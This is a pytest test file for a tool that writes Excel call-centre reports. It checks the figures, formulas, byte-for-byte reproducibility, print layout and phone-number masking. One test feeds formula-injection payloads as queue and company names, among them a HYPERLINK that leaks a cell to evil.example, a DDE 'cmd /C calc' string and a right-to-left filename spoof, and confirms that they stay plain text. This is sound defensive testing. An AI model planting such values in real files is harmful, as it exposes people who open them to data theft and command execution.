"""The file as a whole: the same figures, bytes and looks, whoever opens it wherever."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import duckdb
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from reports.figures import REASONS, Period, company_figures, open_published
from reports.report import NoSuchCompanyError
from reports.texts import Language, words
from reports.workbook import sheet_titles, write_report
from tests.reports.conftest import Edit, Recorded
from tests.reports.reading import LANGUAGES, NOVEMBER, Written, as_written, calculate, formulas, texts, write
from tests.warehouse.harness import RECORDING

# What a correct reading of the recording gives: recordings/README.md.
ORDER = (
    *("incoming", "queued", "answered", "outgoing", "outgoing_successful", "incoming_talk_minutes"),
    *("outgoing_talk_minutes", "average_incoming_talk_minutes", "average_outgoing_talk_minutes"),
    *("average_talk_minutes", "effectiveness"),
)
TRUTH: dict[str, tuple[Any, ...]] = {
    "acme": (19, 17, 13, 8, 3, 1.03, 0.22, 0.08, 0.07, 0.08, 13 / 19),
    "globex": (12, 11, 6, 2, 0, 0.42, 0.0, 0.07, "—", 0.07, 6 / 12),
    "initech": (1, 0, 0, 0, 0, 0.0, 0.0, "—", "—", "—", 0.0),
}
NOT_ANSWERED = {
    "acme": {"abandoned": 2, "timeout": 1, "key": 1, "refused": 1, "ended_before_queue": 1},
    "globex": {"abandoned": 5, "timeout": 1},
    "initech": {"ended_before_queue": 1},
}


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("company", TRUTH)
def test_summary_has_the_true_figures_in_order(recorded: Recorded, company: str, language: Language) -> None:
    own = words(language)
    written = recorded(company, language)
    shown = [row[:2] for row in written.rows(own.summary)[4 : 4 + len(ORDER)]]
    assert shown == [
        (own.terms[term].name, pytest.approx(value) if isinstance(value, float) else value)
        for term, value in zip(ORDER, TRUTH[company], strict=True)
    ]


@pytest.mark.parametrize("company", TRUTH)
def test_reasons_add_up_in_sight(recorded: Recorded, company: str) -> None:
    own = words("en")
    written = recorded(company)
    rows = {row[0]: row[1] for row in written.rows(own.summary)}
    shown = {reason: rows[own.reasons[reason].name] for reason in REASONS}
    assert shown == {reason: NOT_ANSWERED[company].get(reason, 0) for reason in REASONS}
    incoming, _, answered, *_ = TRUTH[company]
    assert rows[own.sum_of_reasons] == sum(shown.values()) == incoming - answered
    assert rows[own.answered_and_reasons] == incoming
    assert rows[own.check] == own.adds_up


def test_check_is_a_live_formula_that_tells_a_difference(edited: Edit, tmp_path: Path) -> None:
    own = words("ru")
    path = edited("UPDATE agg_call_hour SET count_key = count_key + 2 WHERE company_id = 'acme'")
    with open_published(path) as con:
        written = write(con, tmp_path / "report.xlsx", language="ru")
    check = next(cell for cell in written.sheet(own.summary)["A"] if cell.value == own.check)
    live = written.sheet(own.summary).cell(check.row, 2)
    assert live.data_type == "f"
    assert calculate(written.sheet(own.summary), str(live.value), "ru") == f"{own.differs} -2"
    assert written.beside(own.summary, own.check) == f"{own.differs} -2"


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("company", TRUTH)
def test_every_formula_comes_to_what_the_file_says(
    recorded: Recorded, company: str, language: Language
) -> None:
    written = recorded(company, language)
    own = words(language)
    assert formulas(written.sheet(own.summary))
    assert formulas(written.sheet(own.days))
    for title in sheet_titles(own):
        sheet, results = written.sheet(title), written.results[title]
        assert isinstance(results, Worksheet)
        for coordinate, formula in formulas(sheet).items():
            result = calculate(sheet, formula, language)
            expected = (
                result if isinstance(result, str) else pytest.approx(result, abs=1e-7)
            )  # openpyxl rounds durations
            assert as_written(results[coordinate].value) == expected, f"{title} {coordinate} {formula}"


def test_same_inputs_give_the_same_bytes(recording: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    for language in LANGUAGES:
        first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
        write_report(recording, "acme", NOVEMBER, language, first)
        write_report(recording, "acme", NOVEMBER, language, second)
        assert first.read_bytes() == second.read_bytes()


def test_another_process_on_another_clock_gives_the_same_bytes(published: Path, tmp_path: Path) -> None:
    here, there = tmp_path / "here.xlsx", tmp_path / "there.xlsx"
    with open_published(published) as con:
        write_report(con, "acme", NOVEMBER, "ru", here, restated_at=datetime(2026, 12, 3, 7))  # noqa: DTZ001
    program = (
        "import sys, datetime, pathlib, reports.figures as f, reports.workbook as w\n"
        "period = f.Period(datetime.date(2026, 11, 1), datetime.date(2026, 12, 1))\n"
        "at = datetime.datetime(2026, 12, 3, 7)\n"
        "with f.open_published(pathlib.Path(sys.argv[1])) as con:\n"
        "    w.write_report(con, 'acme', period, 'ru', pathlib.Path(sys.argv[2]), restated_at=at)\n"
    )
    environment = os.environ | {"TZ": "Asia/Kathmandu", "PYTHONHASHSEED": "1", "LC_ALL": "C"}
    command = [sys.executable, "-W", "error", "-c", program, str(published), str(there)]
    subprocess.run(command, check=True, env=environment)  # noqa: S603 - our own program
    assert here.read_bytes() == there.read_bytes()


def test_parts_have_one_fixed_time_and_the_properties_no_clock(recorded: Recorded) -> None:
    written = recorded()
    with zipfile.ZipFile(written.path) as archive:
        assert {each.date_time for each in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.testzip() is None
    assert written.book.properties.created == datetime(2026, 12, 1)  # noqa: DTZ001
    assert written.book.properties.modified == datetime(2026, 12, 1)  # noqa: DTZ001


@pytest.mark.parametrize(
    "at",
    [datetime(2026, 12, 3, 7, 30, tzinfo=ZoneInfo("UTC")), datetime(2026, 12, 3, 7, 30)],  # noqa: DTZ001
)
def test_a_restated_report_says_so(
    recording: duckdb.DuckDBPyConnection, recorded: Recorded, tmp_path: Path, at: datetime
) -> None:
    written = write(recording, tmp_path / "report.xlsx", restated_at=at)
    note = written.rows("Summary")[2][0]
    assert "Restated 2026-12-03 10:30" in note  # in Moscow
    assert written.book.properties.modified == at.replace(tzinfo=UTC).replace(tzinfo=None)
    plain = recorded()
    assert "Restated" not in plain.rows("Summary")[2][0]


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_sheet_is_ready_to_read_and_to_print(recorded: Recorded, language: Language) -> None:
    own = words(language)
    written = recorded(language=language)
    assert tuple(written.book.sheetnames) == sheet_titles(own)
    for title in sheet_titles(own):
        sheet = written.sheet(title)
        assert re.fullmatch("[ABC]5", str(sheet.freeze_panes))
        assert not sheet.sheet_view.showGridLines
        assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
        assert sheet.sheet_properties.pageSetUpPr is not None
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.page_setup.fitToWidth == 1
        assert sheet.print_title_rows in ("$4:$4", "$1:$2")
        assert sheet.oddFooter is not None
        assert "&P" in str(sheet.oddFooter.right.text)
        assert "ACME" in str(sheet.oddFooter.left.text)
        assert "Europe/Moscow (UTC+03:00)" in str(sheet["A2"].value)
        assert all(sheet.column_dimensions[letter].width > 2 for letter in "ABC")
    for title in (own.days, own.queues, own.operators, own.unanswered):
        assert written.sheet(title).auto_filter.ref


def test_charts_are_native_and_drawn_from_cells(recorded: Recorded) -> None:
    parts = recorded().parts()
    charts = [text for name, text in sorted(parts.items()) if name.startswith("xl/charts/")]
    assert len(charts) == 4
    by_day, by_reason = charts[:2]
    assert "'Days'!$E$5:$E$34" in by_day
    assert "'Days'!$F$5:$F$34" in by_day
    assert "'Summary'!$B$19:$B$33" in by_reason
    assert all('<delete val="0"' in text for text in charts)  # else Excel hides the axes
    assert sum("chart" in text for name, text in parts.items() if name.endswith("drawing1.xml.rels")) == 1


def test_no_number_is_in_clear(recorded: Recorded) -> None:
    numbers = set(re.findall(r"\+?7?9\d{9}|8\d{10}", (RECORDING / "truth.json").read_text("utf-8")))
    assert len(numbers) > 20
    for company in TRUTH:
        everything = "".join(recorded(company).parts().values())
        assert not [number for number in numbers if number[-10:] in everything]
        assert "***" in everything


HOSTILE = (  # of whoever names himself, or a queue
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+7+7",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
    "bell \x07 and \u202egpj.exe",
    "_x003D_1+1",
    "</t></is></c><f>1</f>",
    '\'quoted & "double"',
    "x" * 40_000,
)


@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: name[:12])
def test_hostile_names_stay_text(edited: Edit, tmp_path: Path, name: str) -> None:
    given: dict[str, object] = {"name": name}
    path = edited(
        ("UPDATE fct_call SET queue = $name, did = $name, caller_masked = $name", given),
        ("UPDATE fct_queue_pass SET queue = $name, operator = $name", given),
        ("UPDATE agg_queue_day SET queue = $name", given),
        ("UPDATE agg_operator_day SET operator = $name", given),
        ("UPDATE dim_company SET name = $name", given),
        ("UPDATE dim_pbx SET pbx = $name", given),
        (
            (
                "INSERT INTO dq_quarantine"
                " VALUES ($name, $name, $name, $name, 3, TIMESTAMP '2026-11-23 06:00:00')"
            ),
            given,
        ),
        ("INSERT INTO fct_call SELECT * REPLACE ('unassigned' AS company_id) FROM fct_call", {}),
        "UPDATE agg_call_hour SET pbx = (SELECT any_value(pbx) FROM dim_pbx)",
    )
    with open_published(path) as con:
        written = write(con, tmp_path / "report.xlsx")
    allowed = re.compile(r"=(SUM|MAX)\(|=B\d+\+B\d+|=IF\([A-Z]\w*\d+[-=]")
    for title in sheet_titles(words("en")):
        assert all(allowed.match(formula) for formula in formulas(written.sheet(title)).values())
        assert all(cell.data_type != "e" for row in written.sheet(title).iter_rows() for cell in row)
    found = [text for text in texts(written.book) if len(text) <= 260 and _like(name, text)]
    assert len(found) >= 8  # the title, queues, operators, unanswered calls and data quality
    assert 'quotePrefix="1"' in written.parts()["xl/styles.xml"]


def _like(name: str, text: str) -> bool:
    """Printable as it is, else with what cannot be printed replaced, cut or escaped."""
    clean = re.sub("[\x00-\x1f\u202a-\u202e]", "\ufffd", name)
    return text in (clean, clean.replace("_x003D_", "_x005F_x003D_")) or (
        len(name) > 250 and text == f"{'x' * 249}…"
    )


def test_outgoing_figures_nobody_tells_are_a_dash_with_a_note(edited: Edit, tmp_path: Path) -> None:
    own = words("en")
    path = edited("UPDATE dim_pbx SET is_outgoing_known = FALSE")
    with open_published(path) as con:
        written = write(con, tmp_path / "report.xlsx")
    rows = {row[0]: row for row in written.rows(own.summary)}
    for term in ORDER:
        row = rows[own.terms[term].name]
        if "outgoing" in term:
            assert (row[1], row[3]) == ("—", own.outgoing_unknown)
    together = rows[own.terms["average_talk_minutes"].name]
    assert together[1] == rows[own.terms["average_incoming_talk_minutes"].name][1]
    assert together[3] == own.average_of_incoming
    for title in (own.days, own.hours):
        for term in ("outgoing", "outgoing_successful", "outgoing_talk_minutes"):
            values = written.column(title, own.terms[term].short)
            assert {value for value in values if isinstance(value, str | float | int)} <= {
                "—",
                own.terms[term].short,
            }


def test_a_failed_write_leaves_the_report_that_was_there(edited: Edit, tmp_path: Path) -> None:
    path = edited("UPDATE fct_call SET outcome = 'a reason without words'")
    target = tmp_path / "reports" / "report.xlsx"
    target.parent.mkdir()
    target.write_bytes(b"the old one")
    with open_published(path) as con, pytest.raises(KeyError):
        write_report(con, "acme", NOVEMBER, "en", target)
    assert target.read_bytes() == b"the old one"
    assert [each.name for each in target.parent.iterdir()] == ["report.xlsx"]


def test_an_unknown_company_and_an_empty_period_are_refused(
    recording: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    target = tmp_path / "report.xlsx"
    with pytest.raises(NoSuchCompanyError, match="umbrella"):
        write_report(recording, "umbrella", NOVEMBER, "en", target)
    with pytest.raises(NoSuchCompanyError, match="unassigned"):
        write_report(recording, "unassigned", NOVEMBER, "en", target)
    with pytest.raises(ValueError, match="empty period"):
        write_report(recording, "acme", Period(date(2026, 11, 2), date(2026, 11, 2)), "en", target)
    assert not target.exists()


def test_a_period_without_a_call_is_a_report_all_the_same(
    recording: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    own, december = words("ru"), Period(date(2026, 12, 1), date(2027, 1, 1))
    written: Written = write(recording, tmp_path / "report.xlsx", language="ru", period=december)
    assert written.beside(own.summary, own.terms["incoming"].name) == 0
    assert written.beside(own.summary, own.check) == own.adds_up
    assert own.known_nothing in written.rows(own.summary)[2][0]
    assert "Декабрь 2026" in written.rows(own.summary)[1][0]
    assert written.rows(own.unanswered)[4][0] == own.none
    assert {row[2] for row in written.rows(own.days)[4:-1]} == {"—"}  # unknown, not 0
    assert company_figures(recording, december, "acme")[0].incoming == 0
